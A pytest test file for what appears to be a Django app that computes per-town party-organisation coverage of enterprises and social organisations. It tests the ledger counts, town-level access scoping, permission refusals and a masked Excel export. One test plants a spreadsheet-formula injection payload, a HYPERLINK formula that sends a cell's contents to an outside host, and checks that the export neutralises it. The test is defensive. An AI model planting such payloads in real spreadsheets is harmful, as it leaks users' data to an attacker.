"""The 两新组织 ledger: coverage equals a count over the raw units, scoped per town, exported
masked and formula-safe."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from lianxin.economy.models import NewEconomyEnterprise
from lianxin.economy.selectors_two_new import rate, two_new_ledger
from lianxin.org.models import PartyOrgForm, Unit, UnitKind
from tests.core.test_spreadsheets import assert_no_formulas
from tests.economy.liangxin_factories import liangxin, liangxin_world

pytestmark = pytest.mark.django_db


def _raw_rate(kinds, path: str, *, new_economy=None) -> Decimal | None:
    """The coverage counted straight from the units: a party organisation belonging to it
    (``new_economy``: only the enterprises marked 新业态, or only the others)."""
    units = Unit.objects.filter(kind__in=kinds, is_active=True, path__startswith=path)
    if new_economy is not None:
        units = units.filter(new_economy_mark__isnull=not new_economy)
    covered = units.filter(
        party_orgs__kind=UnitKind.PARTY_ORG, party_orgs__is_active=True
    ).distinct()
    return rate(covered.count(), units.count())


def test_coverage_equals_a_count_over_the_raw_units(world):
    liangxin_world(world)
    # a closed party organisation does not cover, a closed enterprise is not counted
    closed_org = liangxin(world.town_a, "620524100000-E02", "停业前公司", form=PartyOrgForm.SINGLE)
    Unit.objects.filter(belongs_to=closed_org).update(is_active=False)
    gone = liangxin(world.town_b, "620524101000-E02", "已注销公司", form=PartyOrgForm.SINGLE)
    Unit.objects.filter(pk=gone.pk).update(is_active=False)
    rider = liangxin(world.town_b, "620524101000-E03", "外卖配送站", form=PartyOrgForm.JOINT)
    courier = liangxin(world.village_b, "620524101201-E01", "快递驿站")
    for unit in (rider, courier):
        NewEconomyEnterprise.objects.create(unit=unit)
    ledger = two_new_ledger(user=world.users["county_admin"])
    county = world.county.path
    ent, soc = UnitKind.ENTERPRISE, UnitKind.SOCIAL_ORG
    assert ledger.scope.rate == _raw_rate([ent, soc], county)
    kinds = {label: r for label, _c, _t, r in ledger.scope.by_kind}
    assert list(kinds.values()) == [
        _raw_rate([ent], county, new_economy=False),
        _raw_rate([soc], county),
        _raw_rate([ent], county, new_economy=True),
    ]
    assert list(kinds.values()) == [Decimal("40.0"), Decimal("50.0"), Decimal("50.0")]
    assert ledger.scope.total == {"non_public": 5, "social": 2, "new_economy": 2}
    assert ledger.scope.covered == {"non_public": 2, "social": 1, "new_economy": 1}
    by_town = {g.unit.pk if g.unit else None: g for g in ledger.groups}
    for town in (world.town_a, world.town_b):
        assert by_town[town.pk].rate == _raw_rate([ent, soc], town.path)
    assert by_town[None].all_total == 1 and by_town[None].rate == Decimal("0.0")  # 县直
    assert {line.unit.name for line in ledger.uncovered} == {
        "惠民超市",
        "洛门老年协会",
        "县直物流公司",
        "停业前公司",
        "快递驿站",
    }
    forms = {line.unit.name: line.form_label for line in ledger.lines if line.covered}
    assert forms == {
        "渭水建材公司": "单独组建",
        "义工联合会": "功能型",
        "蔬菜合作社": "联合组建",
        "外卖配送站": "联合组建",
    }


def test_no_units_no_rate():
    assert rate(0, 0) is None and rate(1, 3) == Decimal("33.3")


def test_a_sibling_town_sees_nothing_of_another_towns_units(world, client, login):
    units = liangxin_world(world)
    ledger = two_new_ledger(user=world.users["town_b"])
    assert {line.unit.pk for line in ledger.lines} == {units["b_joint"].pk, units["b_social"].pk}
    assert [g.unit for g in ledger.groups] == [world.town_b]
    login(world.users["town_b"])
    html = client.get(reverse("economy:two_new")).content.decode()
    assert "蔬菜合作社" in html and "洛门老年协会" in html
    for name in ("渭水建材", "惠民超市", "义工联合会", "城关镇", "县直物流"):
        assert name not in html
    data = client.get(reverse("economy:two_new_export")).content
    cells = " ".join(str(c.value) for ws in load_workbook(io.BytesIO(data)) for r in ws for c in r)
    assert "蔬菜合作社" in cells and "渭水建材" not in cells and "惠民超市" not in cells


def test_page_for_the_county_and_refusals(world, client, login):
    liangxin_world(world)
    login(world.users["county_admin"])
    html = client.get(reverse("economy:two_new")).content.decode()
    assert "城关镇" in html and "洛门镇" in html and "县直" in html
    assert "惠民超市" in html and "50.0%" in html  # town B: 1 of 2
    login(world.users["resident_a"])
    assert client.get(reverse("economy:two_new")).status_code == 403
    login(world.users["grid_a1"])
    assert client.get(reverse("economy:two_new_export")).status_code == 403


EVIL = '=HYPERLINK("http://x/?d="&A2,"点击")'


def test_the_export_is_masked_and_formula_safe(world, client, login):
    units = liangxin_world(world)
    Unit.objects.filter(pk=units["a_bare"].pk).update(name=EVIL, address="@SUM(1)")
    Unit.objects.filter(pk=units["a_covered"].pk).update(phone="+861-SUM(A1)")
    login(world.users["county_admin"])
    response = client.get(reverse("economy:two_new_export"))
    assert response.status_code == 200
    data = response.content
    assert_no_formulas(data)
    cells = [c.value for ws in load_workbook(io.BytesIO(data)) for r in ws for c in r]
    text = [c for c in cells if isinstance(c, str)]
    assert EVIL in text and "@SUM(1)" in text
    assert "13912345678" not in " ".join(text) and "139****5678" in text
    assert (
        Decimal(str(cells[cells.index("合计") + 10]))
        == two_new_ledger(user=world.users["county_admin"]).scope.rate
    )
